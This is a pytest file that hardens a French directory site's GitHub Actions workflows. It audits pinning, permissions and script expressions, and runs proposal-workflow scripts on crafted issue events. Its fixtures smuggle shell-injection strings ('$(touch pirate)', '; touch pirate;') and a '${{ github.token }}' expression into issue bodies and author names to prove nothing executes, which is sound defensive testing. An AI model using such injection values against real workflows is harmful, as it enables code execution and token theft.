"""Les workflows GitHub : la porte par laquelle les propositions des bénévoles arrivent sur le site.

D'abord des vérifications sur tous les workflows (zizmor, schéma, actions épinglées par SHA,
aucune expression dans les scripts, permissions explicites), puis les scripts du workflow
« Proposition de fiche » exécutés sur de faux événements GitHub, avec une doublure de
`from-issue` et de `gh` (on teste le workflow, pas la commande).
"""
from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from ruamel.yaml import YAML

from emploi_accompagne.paths import ROOT

WORKFLOWS = ROOT / ".github" / "workflows"
FICHIERS = sorted(WORKFLOWS.glob("*.yml")) + sorted(WORKFLOWS.glob("*.yaml"))
BIN = Path(sys.executable).parent
ETIQUETTE = "proposition-de-fiche"

# Findings that an inline `# zizmor: ignore[...]` comment silences on purpose, each with its reason.
# Any other ignore comment makes test_zizmor_n_ignore_que_les_exceptions_justifiees fail.
EXCEPTIONS_ZIZMOR = {
    # `/confirmer` needs issue_comment. Mitigated: only maintainers' comments on issues (never on a
    # pull request), no code from the comment or a branch runs, the text is read by a read-only job.
    ("proposition.yml", "dangerous-triggers"),
}

SHA = re.compile(r"[0-9a-f]{40}")
VERSION_EN_COMMENTAIRE = re.compile(r"#\s*v\d+(\.\d+)*\s*$")


def charger(chemin: Path):
    # YAML 1.2 (ruamel): `on:` stays the string "on", not the boolean True of YAML 1.1.
    return YAML(typ="rt").load(chemin.read_text(encoding="utf-8"))


def nom(chemin: Path) -> str:
    return chemin.name


def test_il_y_a_les_workflows_attendus():
    assert {f.name for f in FICHIERS} >= {"tests.yml", "publier.yml", "proposition.yml", "donnees.yml"}


# --- zizmor ---------------------------------------------------------------------------------


def zizmor(*options: str) -> list[dict]:
    executable = BIN / "zizmor"
    assert executable.exists(), f"{executable} introuvable : lancer `make install`"
    resultat = subprocess.run(
        # The auditor persona: every finding, pedantic ones (an image without its digest) included.
        [str(executable), "--offline", "--persona", "auditor", "--format", "json", *options, str(WORKFLOWS)],
        check=False, cwd=ROOT, capture_output=True, text=True,
    )
    try:
        return json.loads(resultat.stdout)
    except json.JSONDecodeError:
        pytest.fail(f"zizmor n'a pas rendu de JSON (code {resultat.returncode}) :\n{resultat.stderr}", pytrace=False)


def lieu(constat: dict) -> tuple[str, int]:
    principal = next((lieu_ for lieu_ in constat["locations"] if lieu_["symbolic"]["kind"] == "Primary"), constat["locations"][0])
    chemin = principal["symbolic"]["key"]["Local"]["verbatim_path"]
    return Path(chemin).name, principal["concrete"]["location"]["start_point"]["row"] + 1


def lister(constats: list[dict]) -> str:
    lignes = []
    for c in constats:
        fichier, ligne = lieu(c)
        lignes.append(f"  {fichier}:{ligne}: [{c['determinations']['severity']}] {c['ident']} : {c['desc']}")
    return "\n".join(lignes)


def test_zizmor_ne_trouve_rien_quelle_que_soit_la_gravite():
    constats = zizmor()
    assert not constats, f"zizmor --offline .github/workflows/ : {len(constats)} constat(s)\n{lister(constats)}"


def test_zizmor_n_ignore_que_les_exceptions_justifiees():
    constats = zizmor("--no-ignores")
    ignores = {(lieu(c)[0], c["ident"]) for c in constats}
    assert ignores <= EXCEPTIONS_ZIZMOR, (
        "constats tus par un commentaire `# zizmor: ignore[...]` sans figurer dans EXCEPTIONS_ZIZMOR :\n"
        + lister([c for c in constats if (lieu(c)[0], c["ident"]) not in EXCEPTIONS_ZIZMOR])
    )


# --- schema, pinning, scripts, permissions ---------------------------------------------------


def test_le_schema_des_workflows_github_accepte_chaque_workflow():
    resultat = subprocess.run(
        [str(BIN / "check-jsonschema"), "--builtin-schema", "vendor.github-workflows", *map(str, FICHIERS)],
        check=False, cwd=ROOT, capture_output=True, text=True,
    )
    assert resultat.returncode == 0, resultat.stdout + resultat.stderr


def jobs(chemin: Path):
    return charger(chemin)["jobs"].items()


def etapes(chemin: Path):
    for id_job, job in jobs(chemin):
        for etape in job.get("steps", []):
            yield id_job, etape


def references(chemin: Path):
    """Every `uses:` (a job calling a reusable workflow, or a step), with its line and the line's text."""
    lignes = chemin.read_text(encoding="utf-8").splitlines()
    for id_job, job in jobs(chemin):
        blocs = [job] + list(job.get("steps", []))
        for bloc in blocs:
            if "uses" in bloc:
                ligne = bloc.lc.value("uses")[0]
                yield id_job, bloc["uses"], ligne + 1, lignes[ligne]


@pytest.mark.parametrize("chemin", FICHIERS, ids=nom)
def test_chaque_action_est_epinglee_par_le_sha_de_son_commit(chemin):
    fautes = []
    for id_job, uses, ligne, texte in references(chemin):
        if uses.startswith(("./", "$/")):  # this repository, at the commit being run
            continue
        action, _, ref = uses.partition("@")
        if not SHA.fullmatch(ref):
            fautes.append(f"{chemin.name}:{ligne} ({id_job}) : {uses} n'est pas épinglée par un SHA de 40 caractères")
        elif not VERSION_EN_COMMENTAIRE.search(texte):
            fautes.append(f"{chemin.name}:{ligne} ({id_job}) : {action} : version manquante en commentaire (# vX.Y.Z)")
    assert not fautes, "\n".join(fautes)


@pytest.mark.parametrize("chemin", FICHIERS, ids=nom)
def test_aucun_script_ne_recoit_d_expression(chemin):
    """A `${{ }}` inside `run:` is pasted into the script before bash reads it: a title, a body or a
    branch name could then run as code. Values go through `env:` (or jq on the event file)."""
    fautes = [
        f"{chemin.name} ({id_job}, étape « {etape.get('name', etape.get('id', '?'))} ») : "
        + ", ".join(sorted(set(re.findall(r"\$\{\{.*?\}\}", etape["run"]))))
        for id_job, etape in etapes(chemin)
        if "run" in etape and "${{" in etape["run"]
    ]
    assert not fautes, "expressions dans un script (à passer par env:) :\n" + "\n".join(fautes)


@pytest.mark.parametrize("chemin", FICHIERS, ids=nom)
def test_chaque_job_declare_ses_permissions_et_le_workflow_aucune(chemin):
    workflow = charger(chemin)
    assert "permissions" in workflow and workflow["permissions"] == {}, (
        f"{chemin.name} : écrire `permissions: {{}}` en tête, et les permissions de chaque job dans le job"
    )
    sans = [id_job for id_job, job in jobs(chemin) if not isinstance(job.get("permissions"), dict)]
    assert not sans, f"{chemin.name} : jobs sans bloc `permissions:` : {', '.join(sans)}"


@pytest.mark.parametrize("chemin", FICHIERS, ids=nom)
def test_checkout_ne_garde_pas_le_jeton(chemin):
    fautes = [
        f"{chemin.name} ({id_job})"
        for id_job, etape in etapes(chemin)
        if str(etape.get("uses", "")).startswith("actions/checkout@")
        and (etape.get("with") or {}).get("persist-credentials") is not False
    ]
    assert not fautes, "actions/checkout sans `persist-credentials: false` : " + ", ".join(fautes)


@pytest.mark.parametrize("chemin", FICHIERS, ids=nom)
def test_chaque_image_de_conteneur_est_epinglee_par_son_empreinte(chemin):
    """A tag (`debian:bookworm`) can be moved to another image; a digest cannot."""
    for id_job, contenu in jobs(chemin):
        conteneur = contenu.get("container")
        image = conteneur.get("image") if isinstance(conteneur, dict) else conteneur
        if image is not None:
            assert re.search(r"@sha256:[0-9a-f]{64}$", image), f"{chemin.name} ({id_job}) : {image} sans @sha256:…"


# --- the data check on pull requests ----------------------------------------------------------


def test_donnees_ne_lance_que_la_verification_des_donnees_sur_les_pull_requests_qui_les_touchent():
    workflow = charger(WORKFLOWS / "donnees.yml")
    assert list(workflow["on"]) == ["pull_request"]
    assert list(workflow["on"]["pull_request"]["paths"]) == ["data/**"]
    scripts = [etape["run"].strip() for _, etape in etapes(WORKFLOWS / "donnees.yml") if "run" in etape]
    assert scripts == ["make install", ".venv/bin/python -m emploi_accompagne check --format github"]
    python = next(e for _, e in etapes(WORKFLOWS / "donnees.yml") if str(e.get("uses", "")).startswith("actions/setup-python@"))
    assert python["with"]["cache"] == "pip" and python["with"]["cache-dependency-path"] == "requirements.lock"
    # The whole suite still runs on every pull request.
    assert "pull_request" in charger(WORKFLOWS / "tests.yml")["on"]


# --- the proposal workflow: structure ---------------------------------------------------------

PROPOSITION = WORKFLOWS / "proposition.yml"
ROBOT = "41898282+github-actions[bot]@users.noreply.github.com"


def job(nom_job: str):
    return charger(PROPOSITION)["jobs"][nom_job]


def test_proposition_se_declenche_sur_les_issues_et_les_commentaires():
    on = charger(PROPOSITION)["on"]
    assert set(on) == {"issues", "issue_comment"}
    assert set(on["issues"]["types"]) == {"opened", "edited", "labeled"}
    assert list(on["issue_comment"]["types"]) == ["created"]


def test_seul_un_confirmer_d_un_compte_associe_lance_le_robot_sur_une_issue_etiquetee():
    """A cheap filter only: whether the author may confirm is asked to GitHub (see below)."""
    condition = " ".join(job("lire")["if"].split())
    assert f"contains(github.event.issue.labels.*.name, '{ETIQUETTE}')" in condition
    assert "startsWith(github.event.comment.body, '/confirmer ')" in condition
    assert """contains(fromJSON('["OWNER", "MEMBER", "COLLABORATOR"]'), github.event.comment.author_association)""" in condition
    assert "!github.event.issue.pull_request" in condition  # never a comment on a pull request


def test_chaque_job_n_a_que_les_permissions_de_son_travail():
    assert dict(job("lire")["permissions"]) == {"contents": "read", "issues": "read"}
    assert dict(job("proposer")["permissions"]) == {"contents": "write", "pull-requests": "write", "statuses": "write"}
    assert dict(job("repondre")["permissions"]) == {"issues": "write"}
    assert job("proposer")["needs"] == "lire"
    assert job("repondre")["needs"] == "lire"


def test_seul_le_job_en_lecture_seule_touche_au_texte_de_l_issue():
    for nom_job, contenu in charger(PROPOSITION)["jobs"].items():
        scripts = " ".join(e.get("run", "") for e in contenu.get("steps", []))
        if nom_job != "lire":
            assert ".issue.body" not in scripts and "from-issue" not in scripts, nom_job
    # In the reading job, the token is given to the step that asks GitHub, not to the one that parses.
    etapes_lire = {e.get("name"): e for e in job("lire")["steps"]}
    assert "GH_TOKEN" not in (etapes_lire["Transformer l'issue en fiche (from-issue)"].get("env") or {})


def test_les_jobs_d_une_meme_issue_ne_se_croisent_pas():
    for nom_job in ("lire", "proposer", "repondre"):
        assert "${{ github.event.issue.number }}" in job(nom_job)["concurrency"]["group"], nom_job
    # The writers share one queue, in the order of the events.
    assert job("proposer")["concurrency"]["group"] == job("repondre")["concurrency"]["group"]
    assert job("proposer")["concurrency"]["cancel-in-progress"] is False


# --- the proposal workflow: its scripts, run on crafted events ----------------------------------

# Shell metacharacters and an expression: none of it may run, all of it must reach the file as is.
CORPS_HOSTILE = (
    "### Département\n\n29 – Finistère\n\n### Téléphone\n\n02 98 00 00 00 $(touch pirate) `touch pirate`\n\n"
    '### Autre chose\n\n"; touch pirate; echo " ${{ github.token }} \'\n'
)


def script(nom_job: str, nom_etape: str) -> tuple[str, set[str]]:
    etape = next(e for e in job(nom_job)["steps"] if e.get("name") == nom_etape)
    return etape["run"], set(etape.get("env") or {})


DOUBLURE_PYTHON = """#!{python}
import json, os, sys
from pathlib import Path
args = sys.argv[1:]
with open(os.environ["JOURNAL"], "a", encoding="utf-8") as journal:
    journal.write(json.dumps(args) + "\\n")
if args[:3] == ["-m", "emploi_accompagne", "check"]:
    sys.exit(int(os.environ.get("CHECK", "0")))
assert args[:3] == ["-m", "emploi_accompagne", "from-issue"], args
mode = os.environ["FROM_ISSUE"]
if mode == "reel":  # the real command, on a copy of the directory's data
    import subprocess
    sys.exit(subprocess.run([{python!r}, *args, "--donnees", os.environ["DONNEES"]]).returncode)
if mode == "accepte":
    with open("data/plateformes.yaml", "a", encoding="utf-8") as f:
        f.write("  telephone: 02 98 00 00 00\\n")
    print("## Fiche du Finistère (29)\\n\\n- téléphone : 02 98 00 00 00")
    sys.exit(0)
if mode == "inchange":
    sys.exit(0)
if mode == "inchange-3":
    print("La fiche du Finistère contient déjà ce téléphone.")
    sys.exit(3)
if mode == "refuse":
    print("Téléphone : numéro invalide (02 98 00 00 00 $(touch pirate))", file=sys.stderr)
    print("Source : obligatoire", file=sys.stderr)
    sys.exit(1)
if mode == "a-confirmer":
    print("## Merci ! Votre proposition est à confirmer auprès de la plateforme\\n\\nEmpreinte : **`3f9a1c2b`**")
    sys.exit(4)
if mode == "erreur":
    print("Erreur inattendue de from-issue : ce n'est pas la faute de la proposition.", file=sys.stderr)
    print("Traceback (most recent call last): ... /home/runner/work/secret.py", file=sys.stderr)
    sys.exit(5)
print("Traceback (most recent call last): ...", file=sys.stderr)
sys.exit(2)
"""

# `gh api` as the workflow calls it: canned answers of GitHub's API (GH_REPONSES: "METHOD path"
# regex -> JSON, or {"statut": 404}), filtered by the real jq like `--jq`; every call logged.
DOUBLURE_GH = """#!{python}
import json, os, re, subprocess, sys
args = sys.argv[1:]
assert args[0] == "api", args
methode, filtre, chemin, champs, i = "GET", None, None, {{}}, 1
while i < len(args):
    a = args[i]
    if a in ("--method", "--jq"):
        if a == "--method":
            methode = args[i + 1]
        else:
            filtre = args[i + 1]
        i += 2
    elif a in ("-f", "-F"):
        cle, _, valeur = args[i + 1].partition("=")
        if a == "-F" and valeur.startswith("@"):
            valeur = open(valeur[1:], encoding="utf-8").read()
        champs[cle] = valeur
        i += 2
    elif a.startswith("--"):
        i += 1
    else:
        chemin = a
        i += 1
with open(os.environ["JOURNAL_GH"], "a", encoding="utf-8") as journal:
    journal.write(json.dumps({{"methode": methode, "chemin": chemin, "champs": champs, "args": args}}) + "\\n")
reponses = json.loads(open(os.environ["GH_REPONSES"], encoding="utf-8").read()) if os.environ.get("GH_REPONSES") else {{}}
for motif, reponse in reponses.items():
    if re.fullmatch(motif, f"{{methode}} {{chemin}}"):
        break
else:
    reponse = {{}} if methode != "GET" else {{"statut": 404}}
if isinstance(reponse, dict) and "executer" in reponse:  # something else happens meanwhile
    subprocess.run(reponse["executer"], shell=True, check=True)
    reponse = reponse["reponse"]
if isinstance(reponse, dict) and reponse.get("statut") == 404:
    print("gh: Not Found (HTTP 404)", file=sys.stderr)
    sys.exit(1)
texte = json.dumps(reponse, ensure_ascii=False)
if filtre is not None:
    texte = subprocess.run(["jq", "-r", "-c", filtre], input=texte, capture_output=True, text=True, check=True).stdout
elif "--silent" not in args:
    texte += "\\n"
else:
    texte = ""
sys.stdout.write(texte)
"""


class Runner:
    """Just enough of a GitHub runner to run one step's `run:` as GitHub does (bash -eo pipefail)."""

    def __init__(self, racine: Path):
        self.racine = racine
        self.temp = racine / "runner-temp"
        self.temp.mkdir()
        self.bin = racine / "bin"
        self.bin.mkdir()
        (self.bin / "gh").write_text(DOUBLURE_GH.format(python=sys.executable), encoding="utf-8")
        (self.bin / "gh").chmod(0o755)
        self.reponses: dict = {}
        self.origine = racine / "origine.git"
        subprocess.run(["git", "init", "--quiet", "--bare", "-b", "main", str(self.origine)], check=True, env=self.env_git())
        depot = self.nouvel_espace("amorce", cloner=False)
        (depot / "data").mkdir()
        (depot / "data" / "plateformes.yaml").write_text('- departement: "29"\n  nom: Plateforme du Finistère\n', encoding="utf-8")
        (depot / "Makefile").write_text("install:\n", encoding="utf-8")
        (depot / ".gitignore").write_text(".venv/\n", encoding="utf-8")
        self.git(depot, "add", ".")
        self.git(depot, "commit", "--quiet", "-m", "départ")
        self.git(depot, "push", "--quiet", str(self.origine), "HEAD:refs/heads/main")

    def env_git(self, identite: bool = True) -> dict:
        env = {"PATH": f"{self.bin}:{os.environ['PATH']}", "HOME": str(self.racine), "GIT_CONFIG_NOSYSTEM": "1",
               "LC_ALL": "C.UTF-8"}
        if identite:  # a person's commits (a runner has none: the workflow configures the bot's)
            env |= {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.invalid",
                    "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.invalid"}
        return env

    def git(self, depot: Path, *args: str) -> str:
        return subprocess.run(["git", *args], cwd=depot, check=True, capture_output=True, text=True, env=self.env_git()).stdout

    def nouvel_espace(self, nom_espace: str, cloner: bool = True) -> Path:
        """A fresh workspace, as actions/checkout leaves it (a clone of main, no credentials)."""
        espace = self.racine / nom_espace
        n = 1
        while espace.exists():  # the same job run again, for another event
            n += 1
            espace = self.racine / f"{nom_espace}-{n}"
        if cloner:
            subprocess.run(["git", "clone", "--quiet", str(self.origine), str(espace)], check=True, env=self.env_git())
        else:
            espace.mkdir()
            self.git(espace, "init", "--quiet", "-b", "main")
        python = espace / ".venv" / "bin" / "python"
        python.parent.mkdir(parents=True)
        python.write_text(DOUBLURE_PYTHON.format(python=sys.executable), encoding="utf-8")
        python.chmod(0o755)
        return espace

    def executer(self, nom_job: str, nom_etape: str, espace: Path, evenement: dict, nom_evenement: str, **env):
        texte, attendues = script(nom_job, nom_etape)
        manquantes = attendues - set(env)
        assert not manquantes, f"l'étape attend aussi {manquantes}"
        (self.temp / "evenement.json").write_text(json.dumps(evenement, ensure_ascii=False), encoding="utf-8")
        reponses = self.reponses | {motif: r for motif, r in REPONSES_PAR_DEFAUT.items() if motif not in self.reponses}
        (self.racine / "reponses.json").write_text(json.dumps(reponses, ensure_ascii=False), encoding="utf-8")
        sortie = self.temp / f"sortie-{nom_job}"
        sortie.write_text("", encoding="utf-8")
        fichier = self.racine / f"{nom_job}.sh"
        fichier.write_text(texte, encoding="utf-8")
        environnement = {
            **self.env_git(identite=False), "RUNNER_TEMP": str(self.temp), "GITHUB_OUTPUT": str(sortie),
            "GITHUB_EVENT_PATH": str(self.temp / "evenement.json"), "GITHUB_EVENT_NAME": nom_evenement,
            "GITHUB_REPOSITORY": "exemple/annuaire", "GITHUB_REPOSITORY_OWNER": "exemple",
            "JOURNAL": str(self.racine / "journal-python.jsonl"), "JOURNAL_GH": str(self.racine / "journal-gh.jsonl"),
            "GH_REPONSES": str(self.racine / "reponses.json"),
            **env,
        }
        resultat = subprocess.run(
            ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(fichier)],
            check=False, cwd=espace, capture_output=True, text=True, env=environnement,
        )
        sorties = dict(ligne.split("=", 1) for ligne in sortie.read_text(encoding="utf-8").splitlines() if "=" in ligne)
        return resultat, sorties

    def journal(self, nom_journal: str) -> list:
        chemin = self.racine / nom_journal
        if not chemin.exists():
            return []
        return [json.loads(ligne) for ligne in chemin.read_text(encoding="utf-8").splitlines()]

    def appels_gh(self, methode: str | None = None) -> list[dict]:
        return [a for a in self.journal("journal-gh.jsonl") if methode is None or a["methode"] == methode]


@pytest.fixture
def runner(tmp_path):
    if shutil.which("jq") is None:
        if os.environ.get("CI"):
            pytest.fail("jq introuvable : les scripts du workflow s'en servent (installé sur les runners GitHub)")
        pytest.skip("jq introuvable sur cette machine (présent sur les runners GitHub et dans la CI)")
    return Runner(tmp_path)


def issue(numero=42, corps=CORPS_HOSTILE, mis_a_jour="2026-11-30T23:10:00Z", auteur="camille"):
    return {
        "action": "opened",
        "issue": {"number": numero, "body": corps, "state": "open", "updated_at": mis_a_jour,
                  "labels": [{"name": ETIQUETTE}], "user": {"login": auteur}},
        "repository": {"default_branch": "main"},
    }


def confirmation(texte: str, login="alice", le="2026-12-01T08:00:00Z", corps=CORPS_HOSTILE):
    evenement = issue(corps=corps)
    evenement["action"] = "created"
    evenement["comment"] = {"body": texte, "user": {"login": login}, "created_at": le, "author_association": "MEMBER"}
    return evenement


def commentaire_github(auteur: str, corps: str, le: str, type_="User") -> dict:
    return {"user": {"login": auteur, "type": type_}, "created_at": le, "body": corps}


CONTEXTE = ("lire", "Lire les commentaires et les droits de leurs auteurs")
LIRE = ("lire", "Transformer l'issue en fiche (from-issue)")
COMMENTAIRES = r"GET repos/exemple/annuaire/issues/42/comments"
PROPOSITIONS_OUVERTES = r"GET repos/exemple/annuaire/issues\?state=open&labels=proposition-de-fiche&creator=.*"
PR_OUVERTE = r"GET repos/exemple/annuaire/pulls\?state=open&head=exemple:proposition/42"
# A new issue: no comment, no other proposal, no pull request yet.
REPONSES_PAR_DEFAUT = {COMMENTAIRES: [], PROPOSITIONS_OUVERTES: [], PR_OUVERTE: []}


def lire(runner, evenement, nom_evenement="issues", **env):
    """The reading job: the comments and rights from GitHub, then from-issue."""
    espace = runner.nouvel_espace("lire")
    resultat, sorties = runner.executer(*CONTEXTE, espace, evenement, nom_evenement, GH_TOKEN="jeton")
    assert resultat.returncode == 0, resultat.stderr
    if sorties.get("resultat") == "limite":
        return resultat, sorties
    return runner.executer(*LIRE, espace, evenement, nom_evenement, **env)


def test_le_texte_de_l_issue_arrive_tel_quel_dans_le_fichier_et_rien_ne_s_execute(runner):
    resultat, sorties = lire(runner, issue(), FROM_ISSUE="accepte")
    assert resultat.returncode == 0, resultat.stderr
    assert sorties == {"resultat": "accepte"}
    appel = runner.journal("journal-python.jsonl")[0]
    assert appel[:3] == ["-m", "emploi_accompagne", "from-issue"]
    assert appel[4:8] == ["--numero", "42", "--date", "2026-11-30"]
    assert appel[8] == "--commentaires"
    assert Path(appel[3]).read_text(encoding="utf-8") == CORPS_HOSTILE + "\n"
    assert not list(runner.racine.rglob("pirate"))
    # Checked by the site's own check, then handed on as a patch and a summary.
    assert runner.journal("journal-python.jsonl")[1] == ["-m", "emploi_accompagne", "check"]
    livraison = runner.temp / "proposition"
    assert "+++ b/data/plateformes.yaml" in (livraison / "proposition.patch").read_text(encoding="utf-8")
    assert (livraison / "resume.md").read_text(encoding="utf-8").startswith("## Fiche du Finistère (29)")


def test_les_commentaires_de_l_issue_et_les_droits_de_chaque_auteur_d_un_confirmer_sont_transmis(runner):
    """Whether someone may confirm is GitHub's answer for the repository (write or more), asked for
    each author of a « /confirmer », never the association shown on the comment."""
    runner.reponses = {
        COMMENTAIRES: [
            commentaire_github("github-actions[bot]", "## Merci !\n<!-- empreinte-complete: " + "a" * 64 + " -->",
                               "2026-11-30T23:11:00Z", "Bot"),
            commentaire_github("alice", "/confirmer aaaaaaaa appel au numéro publié par l'ARS", "2026-12-01T08:00:00Z"),
            commentaire_github("bob", "/Confirmer aaaaaaaa moi aussi", "2026-12-01T09:00:00Z"),
            commentaire_github("camille", "Merci !", "2026-12-01T10:00:00Z"),
            commentaire_github("x; touch pirate", "/confirmer $(touch pirate)", "2026-12-01T11:00:00Z"),
            commentaire_github("ghost", None, "2026-12-01T12:00:00Z"),  # an empty body comes as null
        ],
        r"GET repos/exemple/annuaire/collaborators/alice/permission": {"permission": "write"},
        r"GET repos/exemple/annuaire/collaborators/bob/permission": {"permission": "read"},
        PROPOSITIONS_OUVERTES: [],
    }
    resultat, sorties = lire(runner, confirmation("/confirmer aaaaaaaa appel"), "issue_comment", FROM_ISSUE="a-confirmer")
    assert resultat.returncode == 0, resultat.stderr
    donnees = json.loads(Path(runner.journal("journal-python.jsonl")[0][9]).read_text(encoding="utf-8"))
    assert donnees["droits"] == {"alice": "write", "bob": "read"}  # "camille" wrote no /confirmer
    assert [c["auteur"] for c in donnees["commentaires"]] == [
        "github-actions[bot]", "alice", "bob", "camille", "x; touch pirate", "ghost"]
    assert donnees["commentaires"][0] == {"auteur": "github-actions[bot]", "type": "Bot", "date": "2026-11-30T23:11:00Z",
                                          "corps": "## Merci !\n<!-- empreinte-complete: " + "a" * 64 + " -->"}
    demandes = [a["chemin"] for a in runner.appels_gh() if "/permission" in a["chemin"]]
    assert demandes == ["repos/exemple/annuaire/collaborators/alice/permission",
                        "repos/exemple/annuaire/collaborators/bob/permission"]
    assert not list(runner.racine.rglob("pirate"))
    # The comment's author is not passed on: who confirmed is read from the comments, with its right.
    assert "alice" not in " ".join(runner.journal("journal-python.jsonl")[0])
    assert sorties == {"resultat": "a-confirmer"}


def test_un_compte_inconnu_de_github_n_a_aucun_droit(runner):
    runner.reponses = {COMMENTAIRES: [commentaire_github("alice", "/confirmer aaaaaaaa appel", "2026-12-01T08:00:00Z")]}
    resultat, _ = lire(runner, confirmation("/confirmer aaaaaaaa appel"), "issue_comment", FROM_ISSUE="a-confirmer")
    assert resultat.returncode == 0, resultat.stderr
    donnees = json.loads(Path(runner.journal("journal-python.jsonl")[0][9]).read_text(encoding="utf-8"))
    assert donnees["droits"] == {"alice": "none"}


@pytest.mark.parametrize("droit, attend", [("read", True), ("write", False)], ids=["personne", "responsable"])
def test_une_seule_proposition_ouverte_par_personne_tant_qu_elle_n_est_pas_traitee(runner, droit, attend):
    runner.reponses = {
        COMMENTAIRES: [],
        PROPOSITIONS_OUVERTES: [{"number": 40}, {"number": 42}, {"number": 44}, {"number": 39, "pull_request": {}}],
        r"GET repos/exemple/annuaire/collaborators/camille/permission": {"permission": droit},
    }
    resultat, sorties = lire(runner, issue(), FROM_ISSUE="accepte")
    assert resultat.returncode == 0, resultat.stderr
    demande = next(a["chemin"] for a in runner.appels_gh() if "creator=" in a["chemin"])
    assert "creator=camille" in demande and "state=open" in demande
    if attend:
        assert sorties == {"resultat": "limite"}
        assert runner.journal("journal-python.jsonl") == []  # from-issue is not even run
        assert (runner.temp / "proposition" / "precedente.txt").read_text(encoding="utf-8").strip() == "40"
    else:
        assert sorties == {"resultat": "accepte"}


def test_une_proposition_refusee_transmet_les_erreurs_et_aucun_correctif(runner):
    resultat, sorties = lire(runner, issue(), FROM_ISSUE="refuse")
    assert resultat.returncode == 0, resultat.stderr
    assert sorties == {"resultat": "refuse"}
    livraison = runner.temp / "proposition"
    assert "Source : obligatoire" in (livraison / "erreurs.txt").read_text(encoding="utf-8")
    assert not (livraison / "proposition.patch").exists()


@pytest.mark.parametrize("mode", ["inchange", "inchange-3"], ids=["code-0-sans-changement", "code-3"])
def test_une_proposition_qui_ne_change_rien_ne_donne_pas_de_pull_request(runner, mode):
    resultat, sorties = lire(runner, issue(), FROM_ISSUE=mode)
    assert resultat.returncode == 0, resultat.stderr
    assert sorties == {"resultat": "inchange"}
    assert not (runner.temp / "proposition" / "proposition.patch").exists()


def test_une_proposition_a_confirmer_transmet_ce_que_le_robot_a_lu_et_aucun_correctif(runner):
    resultat, sorties = lire(runner, issue(), FROM_ISSUE="a-confirmer")
    assert resultat.returncode == 0, resultat.stderr
    assert sorties == {"resultat": "a-confirmer"}
    assert "`3f9a1c2b`" in (runner.temp / "proposition" / "resume.md").read_text(encoding="utf-8")
    assert not (runner.temp / "proposition" / "proposition.patch").exists()


def test_une_erreur_inattendue_garde_son_detail_dans_le_journal_et_pas_dans_l_issue(runner):
    resultat, sorties = lire(runner, issue(), FROM_ISSUE="erreur")
    assert resultat.returncode == 0, resultat.stderr
    assert sorties == {"resultat": "erreur"}
    assert "Traceback" in resultat.stderr and "::error::" in resultat.stdout
    assert (runner.temp / "proposition" / "erreurs.txt").read_text(encoding="utf-8") == ""


@pytest.mark.parametrize("panne", [{"FROM_ISSUE": "plante"}, {"FROM_ISSUE": "accepte", "CHECK": "1"}],
                         ids=["code-inconnu", "check-refuse-le-resultat"])
def test_une_panne_fait_echouer_le_job_sans_rien_transmettre(runner, panne):
    resultat, sorties = lire(runner, issue(), **panne)
    assert resultat.returncode != 0
    assert "resultat" not in sorties


# --- pushing: never over someone else's work -----------------------------------------------------

APPLIQUER = ("proposer", "Appliquer le correctif et vérifier les données (check)")
POUSSER = ("proposer", "Pousser la branche proposition/<numéro>")
OUVRIR = ("proposer", "Ouvrir ou mettre à jour la pull request")


def proposition_acceptee(runner, telephone="02 98 00 00 00") -> None:
    resultat, _ = lire(runner, issue(), FROM_ISSUE="accepte")
    assert resultat.returncode == 0, resultat.stderr
    correctif = runner.temp / "proposition" / "proposition.patch"
    correctif.write_text(correctif.read_text(encoding="utf-8").replace("02 98 00 00 00", telephone), encoding="utf-8")


def pousser(runner, nom_espace: str, **env):
    """The pushing job's steps, in one fresh workspace: apply and check, then push."""
    espace = runner.nouvel_espace(nom_espace)
    resultat, _ = runner.executer(*APPLIQUER, espace, issue(), "issues", **({"CHECK": "0"} | env))
    if resultat.returncode != 0:
        return resultat, {}
    return runner.executer(*POUSSER, espace, issue(), "issues", GH_TOKEN="jeton")


def branche(runner) -> str:
    return runner.git(runner.origine, "rev-parse", "proposition/42").strip()


def test_le_correctif_est_verifie_puis_pousse_sur_une_branche_neuve_et_son_statut_est_celui_de_check(runner):
    proposition_acceptee(runner)
    resultat, sorties = pousser(runner, "proposer")
    assert resultat.returncode == 0, resultat.stderr
    assert sorties == {"pousse": "oui"}
    assert ["-m", "emploi_accompagne", "check"] in runner.journal("journal-python.jsonl")
    assert runner.git(runner.origine, "diff", "--name-only", "main", "proposition/42").split() == ["data/plateformes.yaml"]
    assert runner.git(runner.origine, "log", "-1", "--format=%s|%ae|%ce", "proposition/42").strip() == (
        f"Fiche proposée dans l'issue #42|{ROBOT}|{ROBOT}"
    )
    [statut] = [a for a in runner.appels_gh("POST") if "/statuses/" in a["chemin"]]
    assert statut["chemin"] == f"repos/exemple/annuaire/statuses/{branche(runner)}"
    assert statut["champs"]["state"] == "success" and statut["champs"]["context"] == "Vérifier les données"
    assert '--force-with-lease="refs/heads/$branche:$tete"' in script(*POUSSER)[0]
    assert "push --force " not in script(*POUSSER)[0] and "push -f " not in script(*POUSSER)[0]


def test_des_donnees_que_check_refuse_ne_sont_pas_poussees(runner):
    proposition_acceptee(runner)
    resultat, _ = pousser(runner, "proposer", CHECK="1")
    assert resultat.returncode != 0
    assert "proposition/42" not in runner.git(runner.origine, "branch", "--list")
    assert not runner.appels_gh("POST")


def test_la_branche_du_robot_encore_sans_avis_est_remplacee_par_son_seul_nouveau_commit(runner):
    proposition_acceptee(runner)
    assert pousser(runner, "proposer")[0].returncode == 0
    runner.reponses = {PR_OUVERTE: [{"number": 7}], r"GET .*/pulls/7/reviews": [],
                       r"GET .*/pulls/7/commits": [{"sha": branche(runner), "commit": {"author": {"email": ROBOT},
                                                                                     "committer": {"email": ROBOT}}}]}
    proposition_acceptee(runner, telephone="02 98 00 00 09")
    resultat, sorties = pousser(runner, "proposer-bis")
    assert resultat.returncode == 0, resultat.stderr
    assert sorties == {"pousse": "oui"}
    assert runner.git(runner.origine, "rev-list", "--count", "main..proposition/42").strip() == "1"
    assert "02 98 00 00 09" in runner.git(runner.origine, "show", "proposition/42:data/plateformes.yaml")


def test_les_memes_donnees_ne_sont_pas_repoussees(runner):
    proposition_acceptee(runner)
    assert pousser(runner, "proposer")[0].returncode == 0
    avant = branche(runner)
    proposition_acceptee(runner)
    resultat, sorties = pousser(runner, "proposer-bis")
